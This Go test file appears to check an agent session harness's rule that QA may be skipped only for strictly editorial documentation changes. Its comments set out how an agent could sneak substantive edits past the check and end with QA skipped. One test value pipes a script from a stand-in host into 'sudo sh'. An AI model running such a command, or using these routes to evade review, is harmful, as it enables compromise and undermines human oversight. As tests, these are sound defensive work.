package session_test

import (
	"context"
	"strings"
	"testing"

	"github.com/sessiongate/sessiongate/internal/gittest"
	"github.com/sessiongate/sessiongate/session"
)

// TestR55SkipQAEditorialContent (round 55, helper 328): the 2025-12-22
// protocol lets QA be skipped "only when all modified files are
// documentation files ... and changes are strictly editorial (spelling,
// grammar, or formatting) with no changes to code, configuration, tests,
// workflows, or code blocks of any kind". editorial.Lines accepts any
// change that replaces lines one for one outside a heading and a fenced
// block: a code block CommonMark makes by indentation or an HTML <pre>
// block is no fence, and a line rewritten to say the opposite is one line
// for one. A lazy agent that changes the install command in an indented
// block, or turns "run the tests" into "skip the tests", ends COMPLETE
// with QA skipped. Every case below was allowed when written (failing
// first); the honest twins must stay allowed.
func TestR55SkipQAEditorialContent(t *testing.T) {
	t.Parallel()
	const doc = "# Guide\n\nInstall it with:\n\n    curl -fsSL https://example.org/install.sh | sh\n\n" +
		"<pre>\nmake test\n</pre>\n\n" +
		"Always run the tests before every release, and recieve approval from a maintainer.\n\n" +
		"| setting | value |\n| --- | --- |\n| timeout | 30s |\n\nSee [the docs](https://example.org/docs).\n"
	for _, c := range []struct {
		name  string
		edit  string
		allow bool
	}{
		{"indented code block changed", strings.Replace(doc, "https://example.org/install.sh | sh", "https://evil.example/i.sh | sudo sh", 1), false},
		{"html pre block changed", strings.Replace(doc, "make test\n", "make test-fast\n", 1), false},
		{"sentence rewritten to the opposite", strings.Replace(doc, "Always run the tests before every release, and recieve approval from a maintainer.",
			"Releases no longer need the tests or a maintainer's approval: ship straight from main.", 1), false},
		{"table value changed", strings.Replace(doc, "| timeout | 30s |", "| timeout | 300s |", 1), false},
		{"link target changed", strings.Replace(doc, "(https://example.org/docs)", "(https://evil.example/docs)", 1), false},
		{"honest: spelling fix", strings.Replace(doc, "recieve", "receive", 1), true},
		{"honest: grammar fix", strings.Replace(doc, "before every release, and recieve", "before each release and receive", 1), true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			res, err := skipQAOnEdit(t, doc, c.edit)
			if !c.allow {
				if err == nil || !strings.Contains(err.Error(), "strictly editorial") {
					t.Errorf("skip_qa allowed for a change that is not strictly editorial (%s): err %v", c.name, err)
				}
				return
			}
			if err != nil || res.State != session.StateComplete {
				t.Errorf("skip_qa refused for an editorial change (a false block): %v", err)
			}
		})
	}
}

// TestR55SkipQAEditorialHTMLProse: the code-block rule above must not
// refuse a spelling fix in an HTML banner or comment (prose, no code).
func TestR55SkipQAEditorialHTMLProse(t *testing.T) {
	t.Parallel()
	const doc = "<p align=\"center\">\nA tiny greetng tool.\n</p>\n\n<!-- Keep this sectoin short. -->\n\n# Guide\n\nText.\n"
	for _, c := range []struct{ name, edit string }{
		{"honest: spelling fix in an HTML banner", strings.Replace(doc, "greetng", "greeting", 1)},
		{"honest: spelling fix in an HTML comment", strings.Replace(doc, "sectoin", "section", 1)},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if res, err := skipQAOnEdit(t, doc, c.edit); err != nil || res.State != session.StateComplete {
				t.Errorf("skip_qa refused for a spelling fix in HTML prose (a false block): %+v %v", res, err)
			}
		})
	}
}

// skipQAOnEdit ends, with skip_qa, a session under editorialProtocol that
// changed GUIDE.md from doc to edit.
func skipQAOnEdit(t *testing.T, doc, edit string) (*session.EndResult, error) {
	t.Helper()
	e := newEnv(t, editorialProtocol)
	e.engine.Config.DocGlobs = []string{"*.md"}
	gittest.Write(t, e.root, "GUIDE.md", doc)
	gittest.Git(t, e.root, "add", "-A")
	gittest.Git(t, e.root, "commit", "-q", "-m", "guide")
	id := e.start("docs")
	if res, err := e.engine.Advance(context.Background(), session.AdvanceRequest{ID: id, Target: "WORKING"}); err != nil || res.State != session.StateWorking {
		t.Fatalf("to WORKING: %+v %v", res, err)
	}
	gittest.Write(t, e.root, "GUIDE.md", edit)
	gittest.Git(t, e.root, "add", "-A")
	gittest.Git(t, e.root, "commit", "-q", "-m", "docs: guide")
	return e.engine.End(context.Background(), session.EndRequest{ID: id, Summary: "docs", SkipQA: true})
}
